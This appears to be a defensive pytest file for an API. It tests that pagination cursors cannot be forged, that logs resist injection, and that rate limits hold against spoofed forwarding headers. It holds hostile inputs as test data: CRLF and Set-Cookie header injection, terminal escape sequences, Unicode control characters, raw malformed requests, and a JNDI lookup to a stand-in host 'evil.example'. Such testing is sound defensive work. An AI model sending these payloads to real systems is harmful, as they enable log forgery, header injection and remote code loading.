"""Cursors that were given elsewhere, lines for the server's log, addresses that nobody has."""

import json
from pathlib import Path
from shutil import copyfile
from typing import Final
from urllib.parse import quote

from tests.api.house import House
from tests.hostile.live import Live, filled, operations, served


def test_a_cursor_is_good_for_the_list_that_gave_it_alone(quiet: House) -> None:
    """Of every list in the document: flipped, cut, doubled, or taken to another list."""
    document = quiet.json("/openapi.json")
    lists = [
        path
        for method, path in operations(document)
        if method == "GET"
        and any(
            one.get("name") == "cursor"
            for one in document["paths"][path]["get"].get("parameters", ())
        )
    ]
    given = {}
    for path in lists:
        asked = filled(path)
        together = "&" if "?" in asked else "?"
        found = quiet.get(f"{asked}{together}limit=1").headers.get("Link", "")
        if 'rel="next"' in found:
            given[f"{asked}{together}limit=1&cursor="] = found.partition("cursor=")[2].partition(
                ">"
            )[0]

    assert len(given) >= len(lists) // 2
    for asked, cursor in given.items():
        assert quiet.get(asked + cursor).status_code == 200
        middle = len(cursor) // 2
        others = [one for place, one in given.items() if place != asked]
        for wrong in (
            *(cursor[:one] for one in range(1, len(cursor), 7)),
            *(
                cursor[:one] + flipped(cursor[one]) + cursor[one + 1 :]
                for one in range(len(cursor))
            ),
            cursor + cursor,
            cursor + "A",
            cursor[middle:] + cursor[:middle],
            *others,
            quote("é"),
            "....",
        ):
            response = quiet.get(asked + wrong)
            assert response.status_code == 400, (asked, wrong)
            assert response.get_json()["type"] == "/problems/forged-cursor"
        assert quiet.get(f"{asked}{cursor}&as_of=2020-01-01").status_code in {400, 422}


def flipped(letter: str) -> str:
    """Return another letter of base64url."""
    return "B" if letter == "A" else "A"


LINES: Final = (
    "/v1/policies/%0d%0a%7b%22level%22:%22CRITICAL%22%7d",
    "/v1/policies/%1b%5b2J%1b%5d0;owned%07",
    "/v1/policies/%e2%80%ae%e2%80%a8%c2%85",
    "/v1/policies/%22%2c%22level%22:%22CRITICAL%22%2c%22x%22:%22",
    "/v1/policies/$%7bjndi:ldap:%2f%2fevil.example%7d",
    "/v1/meta?x=%0d%0aSet-Cookie:%20a=b",
    "/v1/access/%0a/%0a",
)

AGENT: Final = '\x85\x9b2J"},{"level":"CRITICAL\t"}'
"""As latin-1: a next line, and what begins a terminal's command in one byte."""


def test_nothing_that_is_sent_makes_a_line_of_its_own_in_the_log(live: Live) -> None:
    """One JSON object a line, each of ours, whatever stands in path, agent or request id."""
    before = len(live.lines())

    for path in LINES:
        for name in ("X-Request-ID", "User-Agent", "Referer", "Idempotency-Key"):
            answer = live.ask(path, headers={name: AGENT})
            assert answer.status in {400, 404, 422}, path
            assert "set-cookie" not in answer.headers
    for refused in (b"a\r\n b", b"a\x1b[2J", b"a\0"):
        live.raw(b"GET /v1/meta HTTP/1.1\r\nHost: x\r\nX-Request-ID: %b\r\n\r\n" % refused)
    live.raw(b"GET /v1/policies/x\r\n{} HTTP/1.1\r\nHost: x\r\n\r\n")

    lines = live.lines()[before:]
    assert len(lines) >= len(LINES) * 4
    for line in lines:
        assert line.isascii()
        assert line.isprintable()
        told = json.loads(line)
        assert {"time", "level", "logger", "message", "request_id"} <= set(told)
        assert told["level"] in {"INFO", "WARNING"}
        assert told["request_id"].isalnum()


def test_a_forged_address_wins_no_turn(sown_template: Path, tmp_path: Path) -> None:
    """Every wrong key from another address that nobody vouches for is one from this socket."""
    copyfile(sown_template, tmp_path / "accessline.db")
    url = f"sqlite:///{tmp_path / 'accessline.db'}"
    with served(url, tmp_path, FAILED_KEY_RATE="5", WRITE_RATE="3") as strict:
        statuses = []
        for number in range(20):
            forged = f"198.51.100.{number}"
            answer = strict.ask(
                "/v1/meta",
                key=strict.foreign,
                headers={"X-Forwarded-For": forged, "Forwarded": f"for={forged}"}
                | {"X-Real-IP": forged, "True-Client-IP": forged},
            )
            statuses.append(answer.status)
            if answer.status == 429:
                assert 0 < int(answer.headers["retry-after"]) <= 60
        written = [strict.append({"events": []}).status for _ in range(6)]

    assert statuses.count(401) <= 6
    assert statuses[-1] == 429
    assert written[-1] == 429
